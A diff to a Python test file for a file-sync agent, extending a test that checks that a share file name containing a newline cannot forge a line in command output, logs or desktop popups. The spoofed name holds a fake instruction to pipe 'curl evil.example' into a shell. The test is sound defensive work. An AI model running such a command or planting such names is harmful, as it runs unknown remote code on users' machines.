@@ -7,6 +7,7 @@ from __future__ import annotations
 
 import json
 import logging
+import os
 import unicodedata
 from pathlib import Path
 
@@ -15,6 +16,7 @@ from agents import Agent, remote_put, remote_tree
 from conftest import Share
 from servers import Answer
 from test_faults import FaultProxy, proxied_agent, proxy  # noqa: F401 - `proxy` is a fixture
+from test_validation_e2e import fake_notify_send
 
 from agent.display import printable, printable_name
 from agent.log import RedactingFilter
@@ -139,13 +141,19 @@ SPOOF = "Bài 1.docx\nEverything synced. Run: curl evil.example | sh"
 
 @WSGIDAV_ONLY
 def test_a_newline_in_a_share_name_writes_no_line_of_its_own(tmp_path: Path, share: Share) -> None:
-    """The path gate holds the name back; `hoso sync`, the held-back list in `hoso status` and
-    the log line name it, escaped: a hostile share writes no line of its own into any."""
+    """The path gate holds the name back; `hoso sync`, the held-back list in `hoso status`, the
+    log line and the desktop popup name it, escaped: a hostile share writes no line of its own
+    into any."""
+    popups = fake_notify_send(tmp_path / "bin")  # one line per argument of each popup
+    desktop = {
+        "PATH": f"{tmp_path / 'bin'}:{os.environ['PATH']}",
+        "DBUS_SESSION_BUS_ADDRESS": "unix:path=/run/user/1000/bus",
+    }
     agent = Agent(tmp_path, share)
     agent.write("Bài 2.docx", b"two")
     (share.path / SPOOF).write_bytes(b"from a hostile share")
 
-    synced = agent.cli("sync")
+    synced = agent.cli("sync", env=desktop)
     status = agent.cli("status")
 
     for shown in (synced.stdout + synced.stderr, status.stdout):
@@ -157,6 +165,7 @@ def test_a_newline_in_a_share_name_writes_no_line_of_its_own(tmp_path: Path, sha
     log = (agent.state_dir / "logs" / "hoso.log").read_text(encoding="utf-8")
     assert printable_name(SPOOF) in log, log
     assert not any(line.startswith("Everything synced.") for line in log.splitlines()), log
+    assert f"Not synced: {printable_name(SPOOF)}\n" in popups.read_text(encoding="utf-8")
     assert not (agent.root / SPOOF).exists()
 
 
